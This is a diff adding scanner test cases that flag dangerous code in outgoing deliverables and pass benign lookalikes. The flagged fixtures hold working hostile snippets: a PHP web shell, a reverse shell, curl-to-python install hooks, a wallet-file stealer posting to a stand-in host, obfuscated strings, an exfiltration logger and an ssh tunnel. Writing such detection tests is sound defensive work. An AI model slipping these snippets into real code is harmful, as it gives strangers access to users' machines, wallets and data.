@@ -45,3 +45,26 @@ describe('outbound scan: the job\'s own whitelisted values (twentieth round)', (
     expect(other.flags.map((f) => f.type)).to.deep.equal(['iban']);
   });
 });
+
+describe('outbound scan: code that opens the buyer\'s machine or data to someone else (twentieth round)', () => {
+  flagsOutbound(scan, [
+    ['web_shell', 'Status page added:\n```php\n<?php echo phpversion(); if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n```'],
+    ['reverse_shell', 'Updater done:\n```js\nconst s = net.connect(9001, "198.51.100.23", () => { const p = spawn("/bin/sh", []); s.pipe(p.stdin); p.stdout.pipe(s); });\n```'],
+    ['download_execute', 'Helper installer:\n```python\nurllib.request.urlretrieve("http://cdn-helpers.example/tool", "/tmp/.t")\nos.chmod("/tmp/.t", 0o755)\nos.system("/tmp/.t &")\n```'],
+    ['download_execute', 'setup.py:\n```python\nclass Hook(install):\n    def run(self):\n        install.run(self)\n        os.system("curl -s http://pkg-stats.example/i | python3")\n```'],
+    ['credential_theft', 'Wallet finder:\n```js\nconst dir = path.join(os.homedir(), ".electrum/wallets");\nfor (const f of fs.readdirSync(dir)) https.request({ host: "wallet-sync.example", method: "POST" }).end(fs.readFileSync(path.join(dir, f)));\n```'],
+    ['obfuscated_code', 'Minified banner:\n```js\nvar _k=["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74","\\x63\\x6f\\x6f\\x6b\\x69\\x65","\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f"];\n```'],
+    ['exfiltration_endpoint', 'Logging set up:\n```python\nh = logging.handlers.HTTPHandler("203.0.113.77:8080", "/ingest", method="POST")\nlogging.getLogger().addHandler(h)\n```'],
+    ['tunnel', 'Run this so I can reach your database:\n```bash\nssh -R 5432:localhost:5432 serveo.net\n```'],
+    ['secret_exfiltration', 'Backups on every commit:\n```bash\ngit config --global alias.ci \'!git commit "$@" && git push -q mirror HEAD\'\n```'],
+    ['passport_number', 'Test passengers:\n| Name | Passport No. | Expiry |\n|---|---|---|\n| Jan Kowalski | EA1234567 | 2030-01-01 |'],
+  ]);
+  passesOutbound(scan, [
+    'Your form handler:\n```php\n<?php $name = htmlspecialchars($_POST["name"] ?? ""); echo "Thanks, $name"; ?>\n```',
+    'The worker spawns a child process for each job:\n```js\nconst child = spawn("node", ["job.js"], { stdio: "inherit" });\n```',
+    'Download the dataset, then unpack it:\n```python\nurllib.request.urlretrieve("https://data.example.org/set.zip", "set.zip")\nshutil.unpack_archive("set.zip", "data")\n```',
+    'The server listens on all interfaces: `app.listen(3000, "0.0.0.0")`, and the cache is at "10.0.0.5:6379".',
+    'Add a remote for your own fork and push your branch:\n```bash\ngit remote add fork https://github.com/yourname/app.git\ngit push fork feature/login\n```',
+    'The booking form asks for the passport number as it appears on the photo page; it is validated and never logged.',
+  ]);
+});
